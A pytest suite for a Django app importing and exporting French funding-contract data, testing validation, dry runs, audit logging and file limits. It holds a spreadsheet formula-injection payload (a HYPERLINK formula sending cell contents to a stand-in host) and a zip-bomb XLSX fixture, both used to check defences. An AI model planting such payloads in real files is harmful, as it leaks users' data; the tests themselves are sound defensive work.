import csv
import io
import re
from decimal import Decimal

import openpyxl
import pytest
import tablib
from django.urls import reverse
from django.utils.html import escape

from audit.journal import AuditAction, AuditEvent
from background.models import ImportJob
from benchmarks.spreadsheets import xlsx_bomb
from contracts.imports import (
    InvalidValue,
    RowStatus,
    export_contract_file,
    import_contract_file,
    parse_amount,
)
from contracts.models import FundingLine, Milestone, YearlyAllocation
from contracts.resources import neutralise_cell, render_dataset, restore_cell
from contracts.selectors import contract_snapshot

from .factories import ContractFactory, FundingLineFactory, MilestoneFactory

pytestmark = pytest.mark.django_db

D = Decimal
FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"Cliquez")'


@pytest.fixture
def contract(db):
    """A draft contract whose wording holds formula-looking text."""
    contract = ContractFactory(with_lines=True)
    axis = contract.axes.get(number=1)
    FundingLineFactory(
        axis=axis,
        code="1.9",
        label=FORMULA,
        scheme="IPA",
        details={"students": 1, "beneficiary_kind": "HEALTH_ESTABLISHMENT"},
        amounts={2025: D("35000.00"), 2026: D("35000.00")},
    )
    MilestoneFactory(axis=axis, title="+33 recrutements", indicator_label="@cellule")
    return contract


def export(contract, user, kind, file_format) -> bytes:
    return export_contract_file(
        actor=user, contract=contract, kind=kind, file_format=file_format
    ).content


def run(contract, user, kind, file_format, content, *, dry_run):
    return import_contract_file(
        actor=user,
        contract=contract,
        kind=kind,
        file_format=file_format,
        content=content,
        dry_run=dry_run,
    )


def upload(client, contract, kind, name, content, capture) -> str:
    """Post a file on the import page, let its dry run run, return the page it leads to."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    with capture(execute=True):
        response = client.post(
            reverse("contracts:import", args=[contract.pk]),
            {"kind": kind, "file": SimpleUploadedFile(name, content)},
        )
    assert response.status_code == 302, response.content.decode()
    page = client.get(response.url)
    assert page.status_code == 200
    return page.content.decode()


def csv_file(rows: list[dict]) -> bytes:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8")


def csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def new_line(contract, **overrides) -> dict:
    row = {
        "axe": "2",
        "code": "2.9",
        "dispositif": "OTHER",
        "libelle": "Maison des internes",
        "beneficiaire": contract.carrier_establishment.finess,
        "parametres": "",
        "date_limite_consommation": "",
        "montant_2025": "12 000,50",
        "montant_2026": "12000.50",
        "montant_2027": "",
    }
    row.update(overrides)
    return row


class TestRoundTrip:
    @pytest.mark.parametrize("file_format", ["csv", "xlsx"])
    @pytest.mark.parametrize("kind", ["lines", "milestones"])
    def test_export_then_import_changes_nothing(self, contract, manager, kind, file_format):
        before = contract_snapshot(contract)
        content = export(contract, manager, kind, file_format)
        events = AuditEvent.objects.count()
        report = run(contract, manager, kind, file_format, content, dry_run=False)
        assert report.is_valid, report.errors
        assert report.counts[RowStatus.UNCHANGED] == len(report.rows) > 0
        assert contract_snapshot(contract) == before
        # Only the import itself is journaled.
        assert AuditEvent.objects.count() == events + 1
        assert AuditEvent.objects.last().action == AuditAction.IMPORT


class TestDryRun:
    def test_reports_exactly_what_the_wet_run_writes(self, contract, manager):
        rows = csv_rows(export(contract, manager, "lines", "csv"))
        rows[0]["montant_2025"] = "25 000,00"  # updated
        rows[1]["libelle"] = "Nouveau libellé"  # updated
        rows.append(new_line(contract))  # created
        content = csv_file(rows)
        before, events = contract_snapshot(contract), AuditEvent.objects.count()

        dry = run(contract, manager, "lines", "csv", content, dry_run=True)
        assert contract_snapshot(contract) == before
        assert AuditEvent.objects.count() == events

        wet = run(contract, manager, "lines", "csv", content, dry_run=False)
        statuses = [(row.line_number, row.status, row.changes) for row in wet.rows]
        assert [(row.line_number, row.status, row.changes) for row in dry.rows] == statuses
        assert (
            dry.counts
            == wet.counts
            == {
                RowStatus.CREATED: 1,
                RowStatus.UPDATED: 2,
                RowStatus.UNCHANGED: 1,
                RowStatus.ERROR: 0,
            }
        )
        assert (dry.written, wet.written) == (False, True)
        # One event per service call, plus the import.
        assert AuditEvent.objects.count() == events + 3 + 1
        created = FundingLine.objects.get(code="2.9")
        assert dict(created.allocations.values_list("year", "allocated_amount")) == {
            2025: D("12000.50"),
            2026: D("12000.50"),
        }


class TestBadRows:
    @pytest.mark.parametrize(
        ("overrides", "expected"),
        [
            ({"axe": "9"}, "axe 9 inconnu"),
            (
                {"beneficiaire": "Clinique imaginaire"},
                "bénéficiaire « Clinique imaginaire » inconnu",
            ),
            ({"montant_2025": "douze mille"}, "n'est pas un montant décimal"),
            ({"montant_2025": "12,345"}, "plus de deux décimales"),
            ({"montant_2025": "100.001"}, "plus de deux décimales"),
            ({"montant_2025": "-5"}, "négatif"),
            ({"dispositif": "XYZ"}, "dispositif « XYZ » inconnu"),
            (
                {"dispositif": "IPA", "parametres": '{"students": 1}', "montant_2025": "70000.01"},
                "70",
            ),
            (
                {
                    "dispositif": "CLACT",
                    "parametres": '{"actions": 6, "project_cost": "1000"}',
                    "montant_2025": "100",
                },
                "6 actions",
            ),
            ({"montant_2025": "200 000,00"}, "enveloppe"),
            ({"parametres": "{pas du json"}, "JSON"),
        ],
    )
    def test_are_named_with_their_line_number_and_rule(
        self, contract, manager, overrides, expected
    ):
        rows = csv_rows(export(contract, manager, "lines", "csv"))
        rows.append(new_line(contract, **overrides))
        before, events = contract_snapshot(contract), AuditEvent.objects.count()
        report = run(contract, manager, "lines", "csv", csv_file(rows), dry_run=False)
        assert not report.is_valid
        line_number = len(rows) + 1  # header is line 1
        assert any(
            error.startswith(f"Ligne {line_number} :") and expected in error
            for error in report.errors
        ), report.errors
        assert contract_snapshot(contract) == before
        assert AuditEvent.objects.count() == events

    def test_a_year_outside_the_contract_is_refused(self, contract, manager):
        rows = [new_line(contract, montant_2031="100")]
        report = run(contract, manager, "lines", "csv", csv_file(rows), dry_run=True)
        assert report.errors == ["Ligne 2 : année 2031 hors de la période du contrat (2025–2027)."]

    def test_a_good_row_is_not_written_when_another_is_wrong(self, contract, manager):
        rows = [new_line(contract), new_line(contract, code="2.10", axe="7")]
        lines, allocations = FundingLine.objects.count(), YearlyAllocation.objects.count()
        report = run(contract, manager, "lines", "csv", csv_file(rows), dry_run=False)
        assert [row.status for row in report.rows] == [RowStatus.CREATED, RowStatus.ERROR]
        assert (FundingLine.objects.count(), YearlyAllocation.objects.count()) == (
            lines,
            allocations,
        )
        assert not report.written

    def test_a_milestone_outside_the_period_is_refused(self, contract, manager):
        rows = csv_rows(export(contract, manager, "milestones", "csv"))
        rows.append({**rows[0], "intitule": "Trop tard", "echeance": "2030-01-01"})
        milestones = Milestone.objects.count()
        report = run(contract, manager, "milestones", "csv", csv_file(rows), dry_run=False)
        assert any("période du contrat" in error for error in report.errors), report.errors
        assert Milestone.objects.count() == milestones

    def test_a_signed_contract_is_refused_as_a_whole(self, manager):
        signed = ContractFactory(with_lines=True, signed=True)
        content = export(signed, manager, "lines", "csv")
        report = run(signed, manager, "lines", "csv", content, dry_run=True)
        assert "avenant" in report.errors[0]


class TestAmounts:
    @pytest.mark.parametrize(
        ("text", "amount"),
        [
            ("12000.50", D("12000.50")),
            ("12 000,50", D("12000.50")),
            ("12\u202f000,50 €", D("12000.50")),
            ("12.000,50", D("12000.50")),
            ("12000", D("12000.00")),
            (12000, D("12000.00")),
            ("", None),
        ],
    )
    def test_read_french_and_plain_forms(self, text, amount):
        assert parse_amount(text) == amount

    def test_refuse_text_that_is_not_a_number(self):
        with pytest.raises(InvalidValue):
            parse_amount("1e3")


class TestFormulaNeutralisation:
    @pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
    def test_quotes_every_dangerous_start_and_restores_it(self, prefix):
        assert neutralise_cell(f"{prefix}1+1") == f"'{prefix}1+1"
        assert restore_cell(neutralise_cell(f"{prefix}1+1")) == f"{prefix}1+1"
        assert neutralise_cell("Cellule de recrutement") == "Cellule de recrutement"

    def test_csv_export_has_no_cell_starting_with_a_formula(self, contract, manager):
        for kind in ("lines", "milestones"):
            content = export(contract, manager, kind, "csv").decode("utf-8-sig")
            cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
            assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        lines = csv_rows(export(contract, manager, "lines", "csv"))
        assert "'" + FORMULA in [row["libelle"] for row in lines]

    def test_xlsx_export_holds_text_never_formulas(self, contract, manager):
        for kind in ("lines", "milestones"):
            content = export(contract, manager, kind, "xlsx")
            sheet = openpyxl.load_workbook(io.BytesIO(content)).active
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", cell.coordinate
                    if isinstance(cell.value, str):
                        assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
        sheet = openpyxl.load_workbook(
            io.BytesIO(export(contract, manager, "lines", "xlsx"))
        ).active
        assert "'" + FORMULA in [cell.value for cell in sheet["D"]]

    def test_neutralises_what_the_library_would_not(self):
        # import-export alone only strips a leading "=", and only with its setting on.
        dataset = tablib.Dataset(["@SUM(A1)", "-2+3"], headers=["a", "b"])
        content = render_dataset(dataset, "csv").decode("utf-8-sig")
        assert "@SUM" in content  # render alone does not protect: the export path does
        from contracts.resources import neutralise_dataset

        safe = render_dataset(neutralise_dataset(dataset), "csv").decode("utf-8-sig")
        assert "'@SUM(A1)" in safe and "'-2+3" in safe


class TestExportJournal:
    def test_records_one_export_event_per_file(self, contract, manager):
        events = AuditEvent.objects.count()
        export(contract, manager, "lines", "csv")
        export(contract, manager, "milestones", "xlsx")
        exported = AuditEvent.objects.filter(action=AuditAction.EXPORT).order_by("id")
        assert AuditEvent.objects.count() == events + 2
        assert [event.changes["format"] for event in exported] == ["csv", "xlsx"]


class TestImportView:
    def test_dry_run_then_confirmed_import_through_the_pages(
        self, client, contract, manager, django_capture_on_commit_callbacks
    ):
        client.force_login(manager)
        content = csv_file([new_line(contract)])
        page = upload(
            client, contract, "lines", "lignes.csv", content, django_capture_on_commit_callbacks
        )
        assert "Simulation terminée : rien n'a encore été enregistré." in page
        assert "Confirmer l'import" in page
        assert not FundingLine.objects.filter(code="2.9").exists()
        job = ImportJob.objects.get()
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(
                reverse("contracts:import_confirm", args=[contract.pk, job.token])
            )
        assert response.status_code == 302
        page = client.get(response.url).content.decode()
        assert "Import enregistré." in page
        assert FundingLine.objects.filter(code="2.9").exists()


class TestImportCommand:
    def test_defaults_to_a_dry_run_and_writes_with_wet_run(self, contract, manager, tmp_path):
        from django.core.management import call_command

        path = tmp_path / "lignes.csv"
        path.write_bytes(csv_file([new_line(contract)]))
        args = [contract.reference, str(path), "--username", manager.username]
        out = io.StringIO()
        call_command("import_contract_data", *args, stdout=out)
        assert "simulation" in out.getvalue()
        assert not FundingLine.objects.filter(code="2.9").exists()
        call_command("import_contract_data", *args, "--wet-run", stdout=io.StringIO())
        assert FundingLine.objects.filter(code="2.9").exists()

    def test_fails_naming_the_bad_line(self, contract, manager, tmp_path):
        from django.core.management import CommandError, call_command

        path = tmp_path / "lignes.csv"
        path.write_bytes(csv_file([new_line(contract, axe="8")]))
        with pytest.raises(CommandError, match="Ligne 2 : axe 8 inconnu"):
            call_command(
                "import_contract_data",
                contract.reference,
                str(path),
                "--username",
                manager.username,
                "--wet-run",
                stdout=io.StringIO(),
            )


def line_3(contract, **overrides) -> bytes:
    """Return a file whose line 3 (the second data line) carries ``overrides``."""
    return csv_file([new_line(contract), new_line(contract, **{"code": "2.10", **overrides})])


def xlsx_file(rows: list[dict]) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(list(rows[0]))
    for row in rows:
        sheet.append(list(row.values()))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def written(contract) -> tuple:
    """Return what an import may write: the journal, the lines, allocations and milestones."""
    return (
        contract_snapshot(contract),
        AuditEvent.objects.count(),
        FundingLine.objects.count(),
        YearlyAllocation.objects.count(),
        Milestone.objects.count(),
    )


class TestAmountBounds:
    @pytest.mark.parametrize("digits", [16, 31])
    @pytest.mark.parametrize("file_format", ["csv", "xlsx"])
    def test_an_amount_the_column_cannot_hold_is_refused_with_its_line(
        self, contract, manager, digits, file_format
    ):
        amount = "9" * digits
        rows = [new_line(contract), new_line(contract, code="2.10", montant_2025=amount)]
        content = csv_file(rows) if file_format == "csv" else xlsx_file(rows)
        before = written(contract)
        report = run(contract, manager, "lines", file_format, content, dry_run=False)
        assert report.errors == [
            f"Ligne 3 : montant hors limites (montant_2025 : « {amount} » ; "
            "au plus 999\u202f999\u202f999\u202f999,99 €)"
        ]
        assert written(contract) == before

    def test_the_largest_amount_the_column_holds_is_read(self):
        assert parse_amount("999 999 999 999,99") == D("999999999999.99")

    @pytest.mark.parametrize(
        ("text", "amount"), [("1 234,56", D("1234.56")), ("1\u00a0234,56 €", D("1234.56"))]
    )
    def test_french_forms_are_still_read(self, text, amount):
        assert parse_amount(text) == amount

    @pytest.mark.parametrize(
        ("value", "expected"),
        [
            ("NaN", "n'est pas un montant"),
            ("Infinity", "n'est pas un montant"),
            (float("nan"), "n'est pas un montant"),
            (float("inf"), "n'est pas un montant"),
            (D("NaN"), "n'est pas un montant"),
            (1e20, "hors limites"),
            (10**40, "hors limites"),
            ("-1", "négatif"),
            ("1,001", "plus de deux décimales"),
            ("0," + "0" * 40 + "1", "plus de deux décimales"),
        ],
    )
    def test_what_is_not_a_cent_amount_is_refused(self, value, expected):
        with pytest.raises(InvalidValue, match=expected):
            parse_amount(value)

    def test_an_indicator_value_is_bounded_too(self, contract, manager):
        rows = csv_rows(export(contract, manager, "milestones", "csv"))
        rows.append({**rows[0], "intitule": "Nouveau", "cible": "1" * 20})
        report = run(contract, manager, "milestones", "csv", csv_file(rows), dry_run=True)
        assert any(
            error.startswith(f"Ligne {len(rows) + 1} : valeur hors limites")
            for error in report.errors
        ), report.errors

    def test_a_code_longer_than_its_column_is_refused(self, contract, manager):
        report = run(
            contract, manager, "lines", "csv", line_3(contract, code="X" * 31), dry_run=True
        )
        assert report.errors == ["Ligne 3 : code : 31 caractères, au plus 30."]

    def test_the_command_names_the_line_instead_of_failing(self, contract, manager, tmp_path):
        from django.core.management import CommandError, call_command

        path = tmp_path / "lignes.csv"
        path.write_bytes(line_3(contract, montant_2025="1" * 31))
        with pytest.raises(CommandError, match="Ligne 3 : montant hors limites"):
            call_command(
                "import_contract_data",
                contract.reference,
                str(path),
                "--username",
                manager.username,
                "--wet-run",
                stdout=io.StringIO(),
            )


class TestFileReading:
    def test_a_windows_1252_csv_from_french_excel_is_imported(self, contract, manager):
        row = new_line(contract, libelle="Équipe médicale – internes", montant_2025="12 000,50 €")
        text = ";".join(row) + "\r\n" + ";".join(row.values()) + "\r\n"
        report = run(contract, manager, "lines", "csv", text.encode("cp1252"), dry_run=False)
        assert report.written, report.errors
        line = FundingLine.objects.get(code="2.9")
        assert line.label == "Équipe médicale – internes"
        assert line.allocations.get(year=2025).allocated_amount == D("12000.50")

    def test_a_formula_without_its_value_refuses_its_line(self, contract, manager):
        rows = [new_line(contract), new_line(contract, code="2.10", montant_2025="=1000+1")]
        before = written(contract)
        report = run(contract, manager, "lines", "xlsx", xlsx_file(rows), dry_run=False)
        assert report.errors == [
            "Ligne 3 : formule sans valeur calculée (colonne H), enregistrez le fichier dans "
            "Excel ou saisissez la valeur."
        ]
        assert written(contract) == before

    def test_a_file_past_the_row_limit_is_refused_as_a_whole(self, contract, manager):
        rows = [new_line(contract, code=f"2.{n}") for n in range(10_001)]
        report = run(contract, manager, "lines", "csv", csv_file(rows), dry_run=True)
        assert [error.replace("\u202f", " ") for error in report.errors] == [
            "Le fichier dépasse 10 000 lignes (limite) : lecture arrêtée à la ligne 10 002."
        ]
        assert report.rows == []


def bad_inputs(contract) -> dict[str, tuple[str, bytes, str]]:
    """Return, per case, a file name, its content and the French refusal the page shows."""
    return {
        "16 digits": (
            "lignes.csv",
            line_3(contract, montant_2025="9" * 16),
            "Ligne 3 : montant hors limites",
        ),
        "31 digits": (
            "lignes.csv",
            line_3(contract, montant_2025="9" * 31),
            "Ligne 3 : montant hors limites",
        ),
        "neither encoding": (
            "lignes.csv",
            # 0x81 is undefined in Windows-1252 and cannot start a UTF-8 character.
            line_3(contract) + b"\x81\n",
            "ni en UTF-8 ni en Windows-1252",
        ),
        "uncomputed formula": (
            "lignes.xlsx",
            xlsx_file([new_line(contract), new_line(contract, code="2.10", montant_2025="=1+1")]),
            "Ligne 3 : formule sans valeur calculée",
        ),
        "zip bomb": ("lignes.xlsx", xlsx_bomb(40_000_000), "une fois décompressé (limite)"),
        "too many rows": (
            "lignes.csv",
            csv_file([new_line(contract, code=f"2.{n}") for n in range(10_001)]),
            "lecture arrêtée à la ligne 10\u202f002",
        ),
        "not a workbook": ("lignes.xlsx", b"axe;code\n", "n'est pas un classeur XLSX"),
        "too long a code": (
            "lignes.csv",
            line_3(contract, code="X" * 31),
            "Ligne 3 : code : 31 caractères, au plus 30.",
        ),
    }


class TestImportViewRefusals:
    @pytest.mark.parametrize(
        "case",
        [
            "16 digits",
            "31 digits",
            "neither encoding",
            "uncomputed formula",
            "zip bomb",
            "too many rows",
            "not a workbook",
            "too long a code",
        ],
    )
    def test_a_bad_file_is_refused_on_the_page_naming_its_line(
        self, client, contract, manager, case, django_capture_on_commit_callbacks
    ):
        name, content, expected = bad_inputs(contract)[case]
        client.force_login(manager)
        before = written(contract)
        page = upload(client, contract, "lines", name, content, django_capture_on_commit_callbacks)
        assert "rien n'a été enregistré" in page
        assert escape(expected) in page
        assert "Confirmer l'import" not in page
        assert written(contract) == before
        job = ImportJob.objects.get()
        # Confirming a refused dry run is refused too: nothing is queued, nothing written.
        response = client.post(
            reverse("contracts:import_confirm", args=[contract.pk, job.token]), follow=True
        )
        assert response.status_code == 200
        assert "sans erreur avant l&#x27;import" in response.content.decode()
        job.refresh_from_db()
        assert job.run_task_id == ""
        assert written(contract) == before

    def test_the_form_keeps_the_milestones_when_the_file_is_refused(
        self, client, contract, manager
    ):
        from django.core.files.uploadedfile import SimpleUploadedFile

        client.force_login(manager)
        response = client.post(
            reverse("contracts:import", args=[contract.pk]),
            {"kind": "milestones", "file": SimpleUploadedFile("jalons.pdf", b"%PDF")},
        )
        assert response.status_code == 400
        page = response.content.decode()
        assert "Le fichier doit être au format CSV ou XLSX." in page
        assert re.search(r'<option value="milestones" selected>', page)
        assert not ImportJob.objects.exists()

    def test_a_file_over_the_size_limit_is_refused_before_it_is_read(
        self, client, contract, manager, settings
    ):
        from django.core.files.uploadedfile import SimpleUploadedFile

        settings.CONTRACT_IMPORT_MAX_FILE_BYTES = 1024
        client.force_login(manager)
        before = written(contract)
        response = client.post(
            reverse("contracts:import", args=[contract.pk]),
            {"kind": "lines", "file": SimpleUploadedFile("lignes.csv", b"x" * 2048)},
        )
        assert response.status_code == 400
        assert "Le fichier dépasse 1 ko (limite) : il pèse 2 ko." in response.content.decode()
        assert written(contract) == before


class TestImportCommandBounds:
    def test_a_file_over_the_size_limit_is_refused_before_it_is_read(
        self, contract, manager, tmp_path, settings
    ):
        from django.core.management import CommandError, call_command

        settings.CONTRACT_IMPORT_MAX_FILE_BYTES = 1024
        path = tmp_path / "lignes.csv"
        path.write_bytes(b"x" * 2048)
        before = written(contract)
        with pytest.raises(CommandError, match="Le fichier dépasse 1 ko \\(limite\\)"):
            call_command(
                "import_contract_data",
                contract.reference,
                str(path),
                "--username",
                manager.username,
                "--wet-run",
                stdout=io.StringIO(),
            )
        assert written(contract) == before

    def test_a_zip_bomb_is_refused_naming_the_file_as_a_whole(self, contract, manager, tmp_path):
        from django.core.management import CommandError, call_command

        path = tmp_path / "lignes.xlsx"
        path.write_bytes(xlsx_bomb(40_000_000))
        with pytest.raises(CommandError, match="une fois décompressé \\(limite\\)"):
            call_command(
                "import_contract_data",
                contract.reference,
                str(path),
                "--username",
                manager.username,
                stdout=io.StringIO(),
            )
